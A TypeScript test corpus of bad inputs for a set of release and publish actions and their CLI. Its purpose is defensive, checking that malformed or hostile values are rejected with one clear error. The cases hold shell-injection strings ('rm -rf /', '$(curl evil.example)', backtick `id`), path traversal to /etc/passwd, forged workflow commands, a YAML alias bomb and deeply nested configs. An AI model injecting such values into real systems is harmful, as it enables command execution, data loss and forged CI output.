/**
 * The bad-input corpus: malformed and hostile input for every action and the CLI. Each case
 * must end with exit code 1, exactly one error that names the input and says what to do, no
 * stack trace, no request to any registry, and nothing of the hostile value echoed raw.
 *
 * `{{TRIPWIRE}}` in inputs, files or args is replaced by the URL of a server that records any
 * request: every registry a case could reach points there.
 */

import { HOSTILE_TEXT_CASES } from './hostile-text.js';
import { TAPS_CASES } from './corpus-taps.js';
import { WINGET_CHOCO_CASES } from './corpus-winget-choco.js';
import { AUR_SNAP_CASES } from './corpus-aur-snap.js';
import { GITHUB_PACKAGES_CASES } from './corpus-github-packages.js';

export interface BadInputCase {
  name: string;
  /** An action under actions/, or 'cli'. */
  action: string;
  inputs?: Record<string, string>;
  args?: string[];
  env?: Record<string, string>;
  /** Files of the workspace; '.github/deploy-actions.yml' is the default config. */
  files?: Record<string, string>;
  /** A symlink in the workspace: [path, target]. */
  symlink?: [string, string];
  /** Special files in the workspace: a FIFO (mkfifo) or a folder where a file is expected. */
  special?: Record<string, 'fifo' | 'dir'>;
  /** The files are laid out in a folder, and this subfolder of it is the workspace. */
  workspaceDir?: string;
  /** What the one error must contain: the input's name (or file and key). */
  names: string | RegExp;
}

const CONFIG = '.github/deploy-actions.yml';
const goodConfig = `targets:\n  - { name: npm, type: npm, tier: 1, path: npm, registry: '{{TRIPWIRE}}' }\n  - { name: gh, type: github-release, tier: 1, repository: acme/app, registry: '{{TRIPWIRE}}' }\n`;
const project = {
  'package.json': '{"name":"root","version":"1.2.3"}',
  'npm/package.json': '{"name":"@acme/app","version":"1.2.3"}',
  [CONFIG]: goodConfig,
};
const withConfig = (config: string) => ({ ...project, [CONFIG]: config });

const HOSTILE = [
  'v1.2.3; rm -rf /',
  '$(curl evil.example)',
  '1.2.3\n::set-output name=version::9.9.9',
  '1.2.3%0A::add-mask::x',
  '`id`',
  '1.2.3 && echo pwned',
  '../../../../etc/passwd',
  '1.2.3\r\n::error::fake',
];

const versionCases = (action: string, extra: Record<string, string> = {}): BadInputCase[] => [
  ...['1.2', '01.2.3', 'latest', '1.2.3.4', '1.2.3-'].map((version) => ({
    name: `malformed version ${JSON.stringify(version)}`,
    action,
    inputs: { ...extra, version },
    files: project,
    names: "'version'",
  })),
  ...HOSTILE.map((version) => ({
    name: `hostile version ${JSON.stringify(version)}`,
    action,
    inputs: { ...extra, version },
    files: project,
    names: "'version'",
  })),
];

export const CASES: BadInputCase[] = [
  // detect-version
  ...versionCases('detect-version'),
  {
    name: 'unknown version source',
    action: 'detect-version',
    inputs: { sources: 'input, setup.py' },
    names: "'sources'",
  },
  {
    name: 'tag prefix with shell characters',
    action: 'detect-version',
    inputs: { 'tag-prefix': 'v$(id)' },
    names: "'tag-prefix'",
  },
  {
    name: 'require-match not a boolean',
    action: 'detect-version',
    inputs: { 'require-match': 'yes' },
    names: "'require-match'",
  },
  {
    name: 'working-directory outside the workspace',
    action: 'detect-version',
    inputs: { 'working-directory': '../..' },
    names: "'working-directory'",
  },
  {
    name: 'working-directory missing',
    action: 'detect-version',
    inputs: { 'working-directory': 'nope' },
    names: "'working-directory'",
  },
  {
    name: 'working-directory symlink out of the workspace',
    action: 'detect-version',
    inputs: { 'working-directory': 'escape' },
    symlink: ['escape', '/etc'],
    names: "'working-directory'",
  },
  {
    name: 'a manifest with a bad version',
    action: 'detect-version',
    files: { 'package.json': '{"version":"1.2"}' },
    names: /package\.json/,
  },
  {
    name: 'a broken Cargo.toml',
    action: 'detect-version',
    inputs: { sources: 'Cargo.toml' },
    files: { 'Cargo.toml': '[package\nversion = "1' },
    names: /Cargo\.toml/,
  },

  // special files and odd paths (issue 16, class 5): one clear error, never a hang or EISDIR
  ...(['VERSION', 'package.json', 'Cargo.toml', 'pyproject.toml'] as const).map((file) => ({
    name: `a FIFO named ${file}`,
    action: 'detect-version',
    special: { [file]: 'fifo' as const },
    names: new RegExp(`${file.replace('.', '\\.')}: is a FIFO`),
  })),
  {
    name: 'VERSION is a folder',
    action: 'detect-version',
    special: { VERSION: 'dir' },
    names: /VERSION: is a folder, not a regular file/,
  },
  {
    name: 'package.json is a folder',
    action: 'detect-version',
    special: { 'package.json': 'dir' },
    names: /package\.json: is a folder/,
  },
  {
    name: 'working-directory names a file',
    action: 'detect-version',
    files: { 'notes.txt': 'hello', VERSION: '1.2.3' },
    inputs: { 'working-directory': 'notes.txt' },
    names: /'working-directory'.*is a file, not a folder/,
  },
  {
    name: 'VERSION symlinked out of the workspace',
    action: 'detect-version',
    symlink: ['VERSION', '/etc/hostname'],
    names: /VERSION: points outside the workspace/,
  },
  {
    name: 'version.workspace = true with the workspace root outside the checkout',
    action: 'detect-version',
    workspaceDir: 'checkout',
    files: {
      'Cargo.toml': '[workspace]\nmembers = ["checkout"]\n[workspace.package]\nversion = "6.6.6"\n',
      'checkout/Cargo.toml': '[package]\nname = "app"\nversion.workspace = true\n',
    },
    inputs: { sources: 'Cargo.toml' },
    names: /Cargo\.toml \(package\.version\): inherits from a workspace that was not found in the checkout/,
  },
  {
    name: 'the orchestrator with a FIFO named VERSION',
    action: 'release',
    files: { [CONFIG]: goodConfig },
    special: { VERSION: 'fifo' },
    names: /VERSION: is a FIFO/,
  },
  {
    name: 'the orchestrator with a FIFO named package.json',
    action: 'release',
    files: { [CONFIG]: goodConfig },
    special: { 'package.json': 'fifo' },
    names: /package\.json: is a FIFO/,
  },
  {
    name: 'the config is a FIFO',
    action: 'release',
    files: { 'package.json': project['package.json'] },
    special: { [CONFIG]: 'fifo' },
    inputs: { version: '1.2.3' },
    names: /'config'.*is a FIFO/,
  },
  {
    name: 'the config is a folder',
    action: 'build-matrix',
    special: { [CONFIG]: 'dir' },
    inputs: { version: '1.2.3' },
    names: /'config'.*is a folder/,
  },
  {
    name: 'the config nests 100,000 deep',
    action: 'release',
    files: withConfig(`targets: ${'['.repeat(100000)}${']'.repeat(100000)}\n`),
    inputs: { version: '1.2.3' },
    names: /deploy-actions\.yml:1: nests deeper than 64 levels/,
  },
  {
    name: 'the config nests 100,000 block sequences deep',
    action: 'check-published',
    files: withConfig(`targets:\n${'- '.repeat(100000)}x\n`),
    inputs: { version: '1.2.3' },
    names: /deploy-actions\.yml:\d+: nests deeper than 64 levels/,
  },
  {
    name: 'publish-npm with a FIFO named package.json',
    action: 'publish-npm',
    files: { [CONFIG]: goodConfig },
    special: { 'npm/package.json': 'fifo' },
    inputs: { path: 'npm', registry: '{{TRIPWIRE}}', version: '1.2.3' },
    env: { NPM_TOKEN: 'npm_abcdefgh' },
    names: /package\.json: is a FIFO/,
  },
  {
    name: 'publish-github-release body-file is a FIFO',
    action: 'publish-github-release',
    files: project,
    special: { 'NOTES.md': 'fifo' },
    inputs: { 'body-file': 'NOTES.md', registry: '{{TRIPWIRE}}', repository: 'acme/app', version: '1.2.3' },
    env: { GITHUB_TOKEN: 'ghs_abcdefgh' },
    names: /'body-file'.*is a FIFO/,
  },
  {
    name: 'publish-npm version with a PEP 440 post release (npm takes SemVer only)',
    action: 'publish-npm',
    files: project,
    inputs: { path: 'npm', registry: '{{TRIPWIRE}}', version: '1.2.3.post1' },
    env: { NPM_TOKEN: 'npm_abcdefgh' },
    names: /'version'.*post release.*no SemVer form/,
  },
  {
    name: 'publish-pypi version that is neither PEP 440 nor SemVer',
    action: 'publish-pypi',
    files: project,
    inputs: { registry: '{{TRIPWIRE}}', version: '1.2.3.post1.post2' },
    env: { PYPI_TOKEN: 'pypi-abcdefgh' },
    names: /'version'.*is not a PEP 440 or SemVer version/,
  },

  // the config file, through check-published, build-matrix and the orchestrator
  {
    name: 'config not found',
    action: 'check-published',
    inputs: { config: 'missing.yml', version: '1.2.3' },
    names: "'config'",
  },
  {
    name: 'config is broken YAML',
    action: 'build-matrix',
    files: withConfig('targets:\n  - { name: a, type: npm\n'),
    inputs: { version: '1.2.3' },
    names: /deploy-actions\.yml:\d+.*not valid YAML/,
  },
  {
    name: 'config has an unknown key',
    action: 'build-matrix',
    files: withConfig(`targets:\n  - { name: a, type: npm, tier: 1, colour: red }\n`),
    inputs: { version: '1.2.3' },
    names: /deploy-actions\.yml:2 \(targets\[0\]\.colour\)/,
  },
  {
    name: 'config has an unknown type',
    action: 'release',
    files: withConfig(`targets:\n  - { name: a, type: maven, tier: 1 }\n`),
    inputs: { version: '1.2.3' },
    names: /deploy-actions\.yml:2 \(targets\[0\]\.type\).*not a target type/,
  },
  {
    name: 'config has a duplicate target name',
    action: 'release',
    files: withConfig(`targets:\n  - { name: a, type: npm, tier: 1 }\n  - { name: a, type: npm, tier: 2 }\n`),
    inputs: { version: '1.2.3' },
    names: /:3 \(targets\[1\]\.name\).*duplicate/,
  },
  {
    name: 'config has a tier without a policy',
    action: 'release',
    files: withConfig(`tiers: { 1: required }\ntargets:\n  - { name: a, type: npm, tier: 2 }\n`),
    inputs: { version: '1.2.3' },
    names: /:3 \(targets\[0\]\.tier\).*tier 2 has no policy/,
  },
  {
    name: 'config has a wrong type of value',
    action: 'release',
    files: withConfig(`targets:\n  - { name: a, type: github-release, tier: 1, checksums: maybe }\n`),
    inputs: { version: '1.2.3' },
    names: /a\.checksums/,
  },
  {
    name: 'config misses a required key',
    action: 'release',
    files: withConfig(`targets:\n  - { name: d, type: docker, tier: 3 }\n`),
    inputs: { version: '1.2.3' },
    names: /d\.image.*required/,
  },
  {
    name: 'config has a bad registry URL',
    action: 'release',
    files: withConfig(`targets:\n  - { name: a, type: npm, tier: 1, registry: 'ftp://x' }\n`),
    inputs: { version: '1.2.3' },
    names: /a\.registry/,
  },
  {
    name: 'config has an unknown policy',
    action: 'check-published',
    files: withConfig(`tiers: { 1: mandatory }\ntargets: []\n`),
    inputs: { version: '1.2.3' },
    names: /tiers\.1/,
  },
  {
    name: 'config is a YAML alias bomb',
    action: 'release',
    files: withConfig(
      `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\ntargets: []\n`,
    ),
    inputs: { version: '1.2.3' },
    names: /deploy-actions\.yml/,
  },
  {
    name: 'config is 5 MB',
    action: 'release',
    files: withConfig(`# ${'x'.repeat(5 * 1024 * 1024)}\ntargets: []\n`),
    inputs: { version: '1.2.3' },
    names: /deploy-actions\.yml.*limit is 1 MiB/,
  },
  {
    name: 'config key carries a workflow command',
    action: 'release',
    files: withConfig(`targets:\n  - { name: a, type: npm, tier: 1, "::set-output name=x::y": 1 }\n`),
    inputs: { version: '1.2.3' },
    names: /not a known key/,
  },
  {
    name: 'deploy steps do not increase',
    action: 'release',
    files: withConfig(`${goodConfig}deploy:\n  router: { type: nginx }\n  steps: [50, 10, 100]\n`),
    inputs: { version: '1.2.3' },
    names: /deploy\.steps/,
  },
  {
    name: 'deploy health interval is not a duration',
    action: 'release',
    files: withConfig(`${goodConfig}deploy:\n  router: { type: nginx }\n  health: { interval: soon }\n`),
    inputs: { version: '1.2.3' },
    names: /deploy\.health\.interval/,
  },

  // check-published
  {
    name: 'target line with an unknown type',
    action: 'check-published',
    inputs: { targets: 'maven:com.acme', version: '1.2.3' },
    names: "'targets'",
  },
  {
    name: 'target line without a name',
    action: 'check-published',
    inputs: { targets: 'npm:', version: '1.2.3' },
    names: "'targets'",
  },
  {
    name: 'target line with a bad registry URL',
    action: 'check-published',
    inputs: { targets: 'npm:a javascript:alert(1)', version: '1.2.3' },
    names: "'targets'",
  },
  {
    name: 'fail-on-missing not a boolean',
    action: 'check-published',
    inputs: { targets: 'npm:a {{TRIPWIRE}}', 'fail-on-missing': 'maybe', version: '1.2.3' },
    names: "'fail-on-missing'",
  },
  ...versionCases('check-published', { targets: 'npm:a {{TRIPWIRE}}' }).slice(0, 3),

  // build-matrix
  {
    name: 'unknown platform',
    action: 'build-matrix',
    files: project,
    inputs: { platforms: 'npm, nuget' },
    names: "'platforms'",
  },
  {
    name: 'a tier the config does not define',
    action: 'build-matrix',
    files: project,
    inputs: { platforms: 'tier7' },
    names: "'platforms'",
  },
  {
    name: 'force not a boolean',
    action: 'build-matrix',
    files: project,
    inputs: { force: 'yes' },
    names: "'force'",
  },
  {
    name: 'check not a boolean',
    action: 'build-matrix',
    files: project,
    inputs: { check: '1' },
    names: "'check'",
  },
  {
    name: 'tier not a number',
    action: 'build-matrix',
    files: project,
    inputs: { tier: 'one' },
    names: "'tier'",
  },

  // the orchestrator
  ...versionCases('release').slice(0, 4),
  {
    name: 'dry-run not a boolean',
    action: 'release',
    files: project,
    inputs: { 'dry-run': 'nope' },
    names: "'dry-run'",
  },
  {
    name: 'platforms with a workflow command',
    action: 'release',
    files: project,
    inputs: { platforms: '::error::x' },
    names: "'platforms'",
  },

  // publish@v1 and the publish actions
  { name: 'publish without a target', action: 'publish', files: project, inputs: {}, names: "'target'" },
  {
    name: 'publish with an unknown target',
    action: 'publish',
    files: project,
    inputs: { target: 'nuget' },
    names: "'target'",
  },
  {
    name: 'publish with a token carrying a newline',
    action: 'publish',
    files: project,
    inputs: { target: 'npm', token: 'abcd1234\n::add-mask::x' },
    names: "'token'",
  },
  {
    name: 'publish with a token in the environment carrying a newline',
    action: 'publish-npm',
    files: project,
    inputs: { path: 'npm', registry: '{{TRIPWIRE}}' },
    env: { NPM_TOKEN: 'abcd1234\nsecond-line' },
    names: 'NPM_TOKEN',
  },
  ...versionCases('publish', { target: 'npm' }).slice(5, 9),
  {
    name: 'publish-npm path missing',
    action: 'publish-npm',
    files: project,
    inputs: { path: 'nowhere', registry: '{{TRIPWIRE}}' },
    names: "'path'",
  },
  {
    name: 'publish-npm path outside the workspace',
    action: 'publish-npm',
    files: project,
    inputs: { path: '../../', registry: '{{TRIPWIRE}}' },
    names: "'path'",
  },
  {
    name: 'publish-npm registry not http',
    action: 'publish-npm',
    files: project,
    inputs: { registry: 'file:///etc' },
    names: "'registry'",
  },
  {
    name: 'publish-npm provenance unknown',
    action: 'publish-npm',
    files: project,
    inputs: { provenance: 'maybe', registry: '{{TRIPWIRE}}' },
    names: "'provenance'",
  },
  {
    name: 'publish-npm access unknown',
    action: 'publish-npm',
    files: project,
    inputs: { access: 'private', registry: '{{TRIPWIRE}}' },
    names: "'access'",
  },
  {
    name: 'publish-pypi dist matches nothing',
    action: 'publish-pypi',
    files: project,
    inputs: { dist: 'dist/*.whl', registry: '{{TRIPWIRE}}' },
    env: { PYPI_TOKEN: 'pypi-abcdefgh' },
    names: "'dist'",
  },
  {
    name: 'publish-pypi repository-url not a URL',
    action: 'publish-pypi',
    files: project,
    inputs: { 'repository-url': 'upload here' },
    names: "'repository-url'",
  },
  {
    name: 'publish-crates manifest missing',
    action: 'publish-crates',
    files: project,
    inputs: { manifest: 'rust/Cargo.toml', registry: '{{TRIPWIRE}}' },
    env: { CARGO_REGISTRY_TOKEN: 'crates-abcdefgh' },
    names: "'manifest'",
  },
  {
    name: 'publish-crates registry not a URL',
    action: 'publish-crates',
    files: { ...project, 'Cargo.toml': '[package]\nname = "a"\nversion = "1.2.3"\n' },
    inputs: { registry: 'crates dot io' },
    names: "'registry'",
  },
  {
    name: 'publish-docker without an image',
    action: 'publish-docker',
    files: project,
    inputs: {},
    names: "'image'",
  },
  {
    name: 'publish-docker with a bad tag',
    action: 'publish-docker',
    files: project,
    inputs: {
      image: '127.0.0.1:9/acme/app',
      tags: 'bad tag!',
      source: '127.0.0.1:9/acme/ci:1',
      registry: '{{TRIPWIRE}}',
    },
    env: { DOCKER_USERNAME: 'u', DOCKER_PASSWORD: 'password-1' },
    names: "'tags'",
  },
  {
    name: 'publish-docker with a bad image reference',
    action: 'publish-docker',
    files: project,
    inputs: { image: 'Acme/App:latest@x', registry: '{{TRIPWIRE}}' },
    names: "'image'",
  },
  {
    name: 'publish-github-release asset outside the workspace',
    action: 'publish-github-release',
    files: project,
    inputs: { assets: '../../etc/passwd', registry: '{{TRIPWIRE}}', repository: 'acme/app' },
    env: { GITHUB_TOKEN: 'ghs_abcdefgh' },
    names: "'assets'",
  },
  {
    name: 'publish-github-release repository not owner/name',
    action: 'publish-github-release',
    files: project,
    inputs: { repository: 'not a repo', registry: '{{TRIPWIRE}}' },
    env: { GITHUB_TOKEN: 'ghs_abcdefgh' },
    names: "'repository'",
  },
  {
    name: 'publish-github-release body-file missing',
    action: 'publish-github-release',
    files: project,
    inputs: { 'body-file': 'NOTES.md', registry: '{{TRIPWIRE}}', repository: 'acme/app' },
    env: { GITHUB_TOKEN: 'ghs_abcdefgh' },
    names: "'body-file'",
  },
  {
    name: 'publish-flatpak mode unknown',
    action: 'publish-flatpak',
    files: project,
    inputs: { manifest: 'x.yml', mode: 'snap' },
    names: "'mode'",
  },
  {
    name: 'publish-flatpak manifest missing',
    action: 'publish-flatpak',
    files: project,
    inputs: { manifest: 'packaging/none.yml', registry: '{{TRIPWIRE}}' },
    names: "'manifest'",
  },

  // health-gate, blue-green-switch, rollback
  {
    name: 'health-gate url not a URL',
    action: 'health-gate',
    inputs: { url: 'localhost:8080/health' },
    names: "'url'",
  },
  {
    name: 'health-gate interval not a duration',
    action: 'health-gate',
    inputs: { url: '{{TRIPWIRE}}/health', interval: 'soon' },
    names: "'interval'",
  },
  {
    name: 'health-gate error rate over 100%',
    action: 'health-gate',
    inputs: { url: '{{TRIPWIRE}}/health', 'max-error-rate': '150%' },
    names: "'max-error-rate'",
  },
  {
    name: 'health-gate expect-status not a status',
    action: 'health-gate',
    inputs: { url: '{{TRIPWIRE}}/health', 'expect-status': 'ok' },
    names: "'expect-status'",
  },
  {
    name: 'health-gate failure-threshold not a number',
    action: 'health-gate',
    inputs: { url: '{{TRIPWIRE}}/health', 'failure-threshold': 'three' },
    names: "'failure-threshold'",
  },
  {
    name: 'blue-green-switch unknown router',
    action: 'blue-green-switch',
    inputs: { router: 'haproxy' },
    names: "'router'",
  },
  {
    name: 'blue-green-switch steps not increasing',
    action: 'blue-green-switch',
    inputs: { router: 'symlink', link: 'current', blue: 'blue', green: 'green', steps: '50,10,100' },
    names: "'steps'",
  },
  {
    name: 'blue-green-switch steps over 100',
    action: 'blue-green-switch',
    inputs: { router: 'symlink', link: 'current', blue: 'blue', green: 'green', steps: '10,150' },
    names: "'steps'",
  },
  {
    name: 'blue-green-switch to an unknown colour',
    action: 'blue-green-switch',
    inputs: { router: 'symlink', link: 'current', blue: 'blue', green: 'green', to: 'purple' },
    names: "'to'",
  },
  {
    name: 'blue-green-switch step-interval not a duration',
    action: 'blue-green-switch',
    inputs: {
      router: 'symlink',
      link: 'current',
      blue: 'blue',
      green: 'green',
      'step-interval': '5 minutes',
    },
    names: "'step-interval'",
  },
  // Deploy settings the runner hands over at their defaults are not mistakes; these are.
  {
    name: 'blue-green-switch nginx upstream-file under a regular file (ENOTDIR)',
    action: 'blue-green-switch',
    files: { 'plain.txt': 'not a folder' },
    inputs: {
      router: 'nginx',
      'upstream-file': 'plain.txt/app.conf',
      blue: '127.0.0.1:1',
      green: '127.0.0.1:2',
    },
    names: /'upstream-file'.*is under a path that is a file/,
  },
  {
    name: 'blue-green-switch nginx upstream-file is a directory (EISDIR)',
    action: 'blue-green-switch',
    files: { 'conf.d/app.conf/keep': '' },
    inputs: {
      router: 'nginx',
      'upstream-file': 'conf.d/app.conf',
      blue: '127.0.0.1:1',
      green: '127.0.0.1:2',
    },
    names: /'upstream-file'.*is a directory/,
  },
  {
    name: 'blue-green-switch {address} in health-url with a symlink router',
    action: 'blue-green-switch',
    inputs: {
      router: 'symlink',
      link: 'current',
      blue: 'b',
      green: 'g',
      'health-url': 'http://{address}/health',
    },
    names: /'health-url'.*uses \{address\}, but the symlink router has no/,
  },
  {
    name: 'health-gate url naming a colour outside a switch',
    action: 'health-gate',
    inputs: { url: 'http://app-{colour}.internal/health' },
    names: /'url'.*names a colour/,
  },
  {
    name: 'rollback dry-run not a boolean',
    action: 'rollback',
    files: project,
    inputs: { target: 'npm', 'dry-run': 'maybe' },
    names: "'dry-run'",
  },
  {
    name: 'rollback with an unknown target',
    action: 'rollback',
    files: project,
    inputs: { target: 'nuget' },
    names: "'target'",
  },
  {
    name: 'rollback to a malformed version',
    action: 'rollback',
    files: project,
    inputs: { target: 'npm', 'to-version': '1.2' },
    names: "'to-version'",
  },

  // the CLI
  { name: 'cli unknown command', action: 'cli', args: ['deploy'], names: 'unknown command' },
  { name: 'cli unknown flag', action: 'cli', args: ['check', '--colour'], names: "'--colour'" },
  {
    name: 'cli flag without its value',
    action: 'cli',
    args: ['release', '--platforms'],
    names: "'--platforms'",
  },
  {
    name: 'cli malformed version',
    action: 'cli',
    args: ['version', '--version', 'latest'],
    files: project,
    names: "'version'",
  },
  {
    name: 'cli unknown platform',
    action: 'cli',
    args: ['plan', '--platforms', 'nuget'],
    files: project,
    names: "'--platforms'",
  },
  {
    name: 'cli config not found',
    action: 'cli',
    args: ['plan', '--config', 'nope.yml'],
    files: project,
    names: "'--config'",
  },
  {
    name: 'cli --cwd names a file',
    action: 'cli',
    args: ['version', '--cwd', 'package.json'],
    files: project,
    names: /'--cwd'.*is a file, not a folder/,
  },
  {
    name: 'cli --cwd under a file',
    action: 'cli',
    args: ['plan', '--cwd', 'package.json/x'],
    files: project,
    names: /'--cwd'.*was not found/,
  },
  {
    name: 'cli version with a FIFO named VERSION',
    action: 'cli',
    args: ['version'],
    special: { VERSION: 'fifo' },
    names: /VERSION: is a FIFO/,
  },
  {
    name: 'cli plan with a config nested 100,000 deep',
    action: 'cli',
    args: ['plan', '--version', '1.2.3'],
    files: withConfig(`targets: ${'{a: '.repeat(100000)}1${'}'.repeat(100000)}\n`),
    names: /nests deeper than 64 levels/,
  },
  {
    name: 'cli hostile target line',
    action: 'cli',
    args: ['check', '--version', '1.2.3', '--targets', 'npm:$(id) x y'],
    names: "'--targets'",
  },
];

// Workflow commands in bad input (legacy `##[…]`, a forged `::error::` line): hostile-text.ts.
CASES.push(...HOSTILE_TEXT_CASES);
CASES.push(...TAPS_CASES);
CASES.push(...WINGET_CHOCO_CASES);
CASES.push(...AUR_SNAP_CASES);
CASES.push(...GITHUB_PACKAGES_CASES);
